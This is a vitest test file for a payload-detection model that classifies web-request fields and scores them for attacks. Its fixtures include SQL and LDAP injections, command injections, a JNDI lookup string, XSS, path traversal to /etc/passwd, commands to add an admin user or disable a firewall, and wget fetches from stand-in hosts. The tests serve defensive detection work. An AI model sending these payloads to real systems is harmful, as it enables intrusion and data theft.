import { describe, expect, it } from 'vitest';
import { recordToRawRequest } from '../../src/eval/record-request.js';
import { buildInspection } from '../../src/inspect/build-inspection.js';
import { createModelGate } from '../../src/model/gate.js';
import { loadPayloadModel } from '../../src/model/load.js';
import { fieldIntentOfName, isDiffFieldName, isLabelSelector, isMessageProse, isPasswordFieldName, isSearchFieldName, isSearchProse, isSelectorFieldName, isUnifiedDiff, passwordMayCarryAttack } from '../../src/model/field-intent.js';
import type { SignatureResult } from '../../src/signatures/types.js';

// Passwords of the form-auth family that payload-v1.4 blocked (0.82-0.99), drawn as a password manager draws them.
const GENERATED_PASSWORDS = ['G.SLE(="f)=0', "=7oSpN.T59=-L.2Lhu8=3'", 'VD"RkejBH3\'RAd0dS.pT', 'F)BC4c(9>>.g,s~i%uuinx8'];

// Injections into a password field, by mechanism: SQL around a quote, comments, concatenation, keyword-less
// tautologies, LDAP filters, commands, paths and addresses.
const PASSWORD_ATTACKS = [
  "' or '1'='1",
  "1' OR 1=1#",
  "x' and sleep(5)#",
  "admin'--",
  "'||'1'='1",
  "'='",
  "'-'",
  "x'='x",
  "'=0--+",
  "A' DIV 'B",
  "'DIV'",
  "aa'|column!='",
  "aa'=('aa')#(",
  '(8362=9139)*9139',
  '*)(&',
  '*()|&\'',
  '*(|(mail=*))',
  '| sysinfo',
  '|nid',
  '$(id)',
  '`id`',
  '{{7*7}}',
  '${jndi:ldap://x/a}',
  '@(1+2)',
  '<svg/onload=alert(1)>',
  '../../etc/passwd',
  'C:/sysprep.inf',
  'http:0xd8.0x3a.0xd6.0xce',
  "1'qhfy<'\">utwq",
];

describe('password fields', () => {
  it('knows a password field by its name', () => {
    for (const name of ['password', 'passwd', 'pwd', 'pass', 'new_password', 'user[password]', 'user.password', 'passwordConfirm', 'currentPassword', 'j_password', 'eael-pass1', 'password2', 'user_pass', 'auth[password]']) {
      expect(isPasswordFieldName(name), name).toBe(true);
    }
    for (const name of ['passenger', 'passport', 'q', 'comment', 'username', 'token', 'compass', 'bypass_cache']) {
      expect(isPasswordFieldName(name), name).toBe(false);
    }
  });

  it('takes a generated password for noise and every injection shape for a possible attack', () => {
    for (const p of GENERATED_PASSWORDS) expect(passwordMayCarryAttack(p), p).toBe(false);
    for (const a of PASSWORD_ATTACKS) expect(passwordMayCarryAttack(a), a).toBe(true);
  });
});

describe('search fields', () => {
  it('knows a search field by its name', () => {
    for (const name of ['q', 's', 'search', 'query', 'term', 'keywords', 'search_term', 'ep.search_term', 'searchQuery', 'filter[search]']) {
      expect(isSearchFieldName(name), name).toBe(true);
    }
    for (const name of ['p', 'id', 'cat', 'page', 'comment', 'cmd', 'sort', 's:Body/p:command', 'search_mode', 'query_id']) expect(isSearchFieldName(name), name).toBe(false);
  });

  it('knows a field named for the query language it holds (Kibana filter[0].kql, a rule editor eql)', () => {
    for (const name of ['batch[0].request.params.body.query.bool.filter[0].kql', 'eql', 'rule.lucene', 'promql', 'logql', 'nrql', 'spl']) expect(isSearchFieldName(name), name).toBe(true);
    for (const name of ['kql_id', 'sql', 'eql_version']) expect(isSearchFieldName(name), name).toBe(false);
  });

  it('takes a tag list for words the same way', () => {
    for (const name of ['tags', 'tagnames', 'post[tags]', 'labels', 'topics']) expect(isSearchFieldName(name), name).toBe(true);
    for (const t of ['bash mysql', 'regex javascript', 'mysql+javascript']) expect(isSearchProse(t), t).toBe(true);
    for (const t of ["mysql' or 1=1--", 'bash;id']) expect(isSearchProse(t), t).toBe(false);
  });

  it('takes words and spaces on one line for prose, and any injection syntax for more', () => {
    for (const t of ['echo dot', 'echo+box', 'table for 2 or 3', 'union select mattress', 'WAITFOR DELAY syntax sql server', 'sleep 5 mattress']) {
      expect(isSearchProse(t), t).toBe(true);
    }
    for (const t of ["1' union select 1", '1 or 1=1', 'x;cat /etc/passwd', 'a|id', 'echo $(id)', '1 union select 1--', 'foo\nid', 'sleep(5)', '<script>']) {
      expect(isSearchProse(t), t).toBe(false);
    }
  });

  it('takes words for more than a search term when they open with a literal, a SQL clause on a literal, name a file or make a command line', () => {
    // The shared corpora's fragments sent as q= (payload-corpus.ts), which a search field must still score.
    for (const t of ['-52 union select', '14968 order by 5', '17,23 order by 16', ' ORDER BY 3 ', ' or true', '1 AND 1 SOUNDS LIKE 1', '1DUNION SELECT 2', 'AND 1', 'AND true', 'select 1 from foo where', 'select @@version', 'SELECT 0x7461626c655f6e616d65 FROM all_tab_tables', '/bin/ls -al', 'uname -a', 'wget https://evil.example/x.sh', 'which perl', 'net localgroup Administrators hacker /ADD', 'dbase.php a', 'sleep 5', 'whoami']) {
      expect(isSearchProse(t), t).toBe(false);
    }
    for (const t of ['echo dot 5th gen', 'ls 430 lawn mower', 'sleep mask', 'cat toys', 'which wine glass', 'union select mattress']) expect(isSearchProse(t), t).toBe(true);
  });
});

describe('boolean search groups (blind benign set 4)', () => {
  it('reads a group of words in a boolean search as its words', () => {
    for (const t of ['(a OR b) AND NOT c', '(red OR blue) shirt', 'jacket AND (gore-tex OR nylon) NOT kids', '((a OR b) AND c) OR d', '(select OR choose) AND word']) expect(isSearchProse(t), t).toBe(true);
  });

  it('leaves a parenthesis that closes a value, opens a call or holds an operator for the model', () => {
    for (const t of ['x) OR (1', 'a) AND (b', '1) OR (1', 'x AND exists(select 1)', '(a OR b=1)', "(a OR b') AND c", '(select password from users)', '(1) OR (1)', 'a OR b)', '(a OR b) AND sleep(5)', '(a OR b)\n(c)']) {
      expect(isSearchProse(t), t).toBe(false);
    }
  });
});

describe('Kubernetes selectors (blind benign set 4)', () => {
  it('knows a selector field by its name', () => {
    for (const name of ['labelSelector', 'fieldSelector', 'selector', 'label_selector']) expect(isSelectorFieldName(name), name).toBe(true);
    for (const name of ['select', 'selectorType', 'q', 'cssSelector_mode']) expect(isSelectorFieldName(name), name).toBe(false);
  });

  it('takes the apimachinery grammar whole for a selector', () => {
    for (const t of ['metadata.namespace!=kube-system', 'app=nginx,tier in (frontend,backend),!canary', 'environment!=qa,release notin (alpha,beta)', 'status.phase!=Running,spec.nodeName=ip-10-0-3-17.eu-west-1.compute.internal', 'app.kubernetes.io/name==postgres', 'app', '!canary', 'tier=']) {
      expect(isLabelSelector(t), t).toBe(true);
    }
  });

  it('takes nothing beyond it: quotes, spaces, SQL, commands, paths', () => {
    for (const t of ["app=nginx' or '1'='1", 'app=1 or 1=1', 'app=x;id', 'app=$(id)', 'app in (a) union select 1', 'app=../../etc/passwd', 'app=<script>', 'div.main > a[href]', "app in ('a')", 'app=a|id']) {
      expect(isLabelSelector(t), t).toBe(false);
    }
  });
});

describe('diff fields', () => {
  it('knows a diff field by its name', () => {
    for (const name of ['diff_hunk', 'diff', 'patch', 'comment[diff_hunk]', 'mr.diff']) expect(isDiffFieldName(name), name).toBe(true);
    for (const name of ['body', 'code', 'diffuse', 'path', 'dispatch']) expect(isDiffFieldName(name), name).toBe(false);
  });

  it('takes a value opening with a hunk or file header for a diff, and nothing else', () => {
    for (const t of ["@@ -173,2 +173,2 @@\n-    os.system('rm -rf ' + tmpdir)\n+    shutil.rmtree(tmpdir)", '@@ -1 +1 @@\n-a\n+b', 'diff --git a/x.py b/x.py\n', '--- a/x.py\n+++ b/x.py\n', '--- /dev/null\n+++ b/new.txt']) {
      expect(isUnifiedDiff(t), t).toBe(true);
    }
    for (const t of ["os.system('id')", ' @@ -1 +1 @@', '@@@ -1 +1 @@', "x\n@@ -1 +1 @@\n+__import__('os').system('id')", '--- comment']) expect(isUnifiedDiff(t), t).toBe(false);
  });

  it('refuses a diff with a line that is no diff line: a payload glued after it or on a line of its own (session 33 carriers)', () => {
    expect(isUnifiedDiff('diff --git a/x.py b/x.py\nindex 3f2a1b0..9c8d7e6 100644\n--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n a = 1\n-b = 2\n+b = 3\n\\ No newline at end of file\n')).toBe(true);
    for (const t of ['@@ -12,3 +12,4 @@\n const a = 1;\n-const b = 2;\n+const b = 3;\n&& wget http://x.example/x -O /tmp/x', '@@ -1 +1 @@\n-a\n+b\n<script>alert(1)</script>', '@@ -1 +1 @@\n-a\n+b\n/%250d%250aX-Forwarded-For: 1']) expect(isUnifiedDiff(t), t).toBe(false);
  });
});

const model = await loadPayloadModel('models/payload-v1');
const noHits: SignatureResult = { hits: [], candidates: 0 };

/** The shipped model's highest score on a request, as the gate picks the forms it scores. */
async function score(method: string, path: string, query: string, body?: string, contentType?: string): Promise<number> {
  const headers: Record<string, string> = { Host: 'www.example-shop.com', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' };
  if (contentType !== undefined) headers['Content-Type'] = contentType;
  const inspection = buildInspection(recordToRawRequest({ id: 't', source: 'test', label: 'benign', category: 'test', method, path, query, headers, body }));
  return (await createModelGate(model).evaluate(inspection, noHits)).maxScore;
}

const login = (password: string) => score('POST', '/login', '', `username=sam&password=${encodeURIComponent(password)}`, 'application/x-www-form-urlencoded');

describe('the shipped model behind the field intents', () => {
  it('leaves a generated password alone and still scores a login injection as an attack', async () => {
    for (const p of GENERATED_PASSWORDS) expect(await login(p), p).toBeLessThan(model.threshold);
    for (const a of ["' or '1'='1' -- ", "admin' OR 1=1#", "x' and sleep(5)#", "'||'1'='1"]) expect(await login(a), a).toBeGreaterThanOrEqual(model.threshold);
  });

  it('leaves a review comment\'s diff hunk alone and still scores the same code sent as a value', async () => {
    const hunk = "@@ -173,2 +173,2 @@\n         }\n-    os.system('rm -rf ' + tmpdir)\n+    shutil.rmtree(tmpdir, ignore_errors=True)";
    const comment = (field: string) => score('POST', '/api/v3/repos/acme/api/pulls/12/comments', '', JSON.stringify({ body: 'nit: use shutil', path: 'scripts/cleanup.py', [field]: hunk }), 'application/json');
    expect(await comment('diff_hunk')).toBeLessThan(model.threshold);
    // The diff's code in a field of another name is judged as before.
    expect(await score('POST', '/api/run', '', JSON.stringify({ code: "__import__('os').system('rm -rf /tmp/x; id')" }), 'application/json')).toBeGreaterThanOrEqual(model.threshold);
  });

  it('leaves search words alone and still scores a search that breaks out', async () => {
    for (const q of ['echo+box', 'table+for+2+or+3', 'echo+vs+admin']) expect(await score('GET', '/search', `q=${q}`), q).toBeLessThan(model.threshold);
    // The same words in a search parameter of a page URL (an analytics beacon's `dl`).
    expect(await score('GET', '/g/collect', `v=2&dl=${encodeURIComponent('https://shop.example/catalogsearch/result/?term=echo+sheet')}`)).toBeLessThan(model.threshold);
    for (const q of ["x'+union+select+password+from+users--", 'echo+box%3Bcat+%2Fetc%2Fpasswd', "1'+or+'1'%3D'1"]) {
      expect(await score('GET', '/search', `q=${q}`), q).toBeGreaterThanOrEqual(model.threshold);
    }
  });

  it('leaves a boolean search and a Kubernetes field selector alone and still scores injections in those fields', async () => {
    expect(await score('GET', '/search', `q=${encodeURIComponent('(a OR b) AND NOT c')}`)).toBeLessThan(model.threshold);
    expect(await score('GET', '/api/v1/pods', `fieldSelector=${encodeURIComponent('metadata.namespace!=kube-system')}&limit=500`)).toBeLessThan(model.threshold);
    for (const q of ["x') OR ('1'='1", "(a OR b') UNION SELECT password FROM users--"]) expect(await score('GET', '/search', `q=${encodeURIComponent(q)}`), q).toBeGreaterThanOrEqual(model.threshold);
    expect(await score('GET', '/api/v1/pods', `fieldSelector=${encodeURIComponent("metadata.name=x' or '1'='1")}`)).toBeGreaterThanOrEqual(model.threshold);
  });

  it('names one intent per field, as the predicates say one by one (a password first)', () => {
    const names = ['password', 'new_password', 'q', 'search_term', 'tags', 'labelSelector', 'fieldSelector', 'diff_hunk', 'patch', 'id', 'password_search', 'filter[search]', ''];
    for (const name of names) {
      const expected = isPasswordFieldName(name) ? 'password' : isSelectorFieldName(name) ? 'selector' : isDiffFieldName(name) ? 'diff' : isSearchFieldName(name) ? 'search' : 'none';
      expect(fieldIntentOfName(name), name).toBe(expected);
    }
    expect(['password_search', 'labelSelector', 'diff_hunk', 'search_term', 'comment', 'id'].map(fieldIntentOfName)).toEqual(['password', 'selector', 'diff', 'search', 'message', 'none']);
  });

  it("names a message's text by the last word of its field (a chat turn's content, a comment, a prompt), and nothing else", () => {
    for (const name of ['messages[2].content', 'comment', 'message', 'prompt', 'ticket[description]', 'post.text', 'reply', 'notes']) expect(fieldIntentOfName(name), name).toBe('message');
    for (const name of ['content_type', 'message_id', 'textColor', 'commentId', 'cmd', 'host', 'user_password_note']) expect(fieldIntentOfName(name), name).not.toBe('message');
  });

  it('reads a message as prose only when its words do not open or go on as code', () => {
    for (const t of ['and in PowerShell?', 'can you show it in Python', 'the cat sat on the mat', 'Loved the workshop, thanks']) expect(isMessageProse(t), t).toBe(true);
    // The shared corpora's fragments sent as a comment or a message: SQL or a command line first, or SQL's clauses in order.
    for (const t of ['select @version from foo where', 'select @version foo', '@ф1ф1ф1  union select a from b', 'CASE WHEN BINARY TRUE THEN TRUE END IS NOT UNKNOWN HAVING TRUE FOR UPDATE', 'netsh firewall set opmode disable', 'net view', 'whoami', 'bash -i', 'sleep 5']) {
      expect(isMessageProse(t), t).toBe(false);
    }
  });

  it("reads a chat command's long options as words (a slash command's text), and keeps a quote, SQL or a command around them scored", () => {
    for (const t of ['api v2.14.3 --env=prod --canary=10%', 'deploy web --dry-run', 'rollback payments --to=v2.14.2']) expect(isMessageProse(t), t).toBe(true);
    for (const t of ["x' --foo", '1 or 1=1 --x', 'union select password from users --x', 'hello union select a from b --x', 'okay union all select 1,2,3--', 'whoami --help', 'hi --exec=$(id)', '--output=/var/www/x.php', 'ok --']) {
      expect(isMessageProse(t), t).toBe(false);
    }
  });

  it("leaves a chat turn's words alone and still scores an injection or a command line sent as a message", async () => {
    const turn = (content: string) => score('POST', '/api/chat/completions', '', JSON.stringify({ model: 'm', messages: [{ role: 'user', content }] }), 'application/json');
    expect(await turn('and in PowerShell?')).toBeLessThan(model.threshold);
    // The same words in a field of another name are judged as before.
    expect(await score('POST', '/api/run', '', JSON.stringify({ shell: 'and in PowerShell?' }), 'application/json')).toBeGreaterThanOrEqual(model.threshold);
    for (const a of ["x' or '1'='1' -- ", '<script>alert(1)</script>', 'bash -i', 'cat /etc/passwd', "'; DROP TABLE users; --"]) expect(await turn(a), a).toBeGreaterThanOrEqual(model.threshold);
  });
});
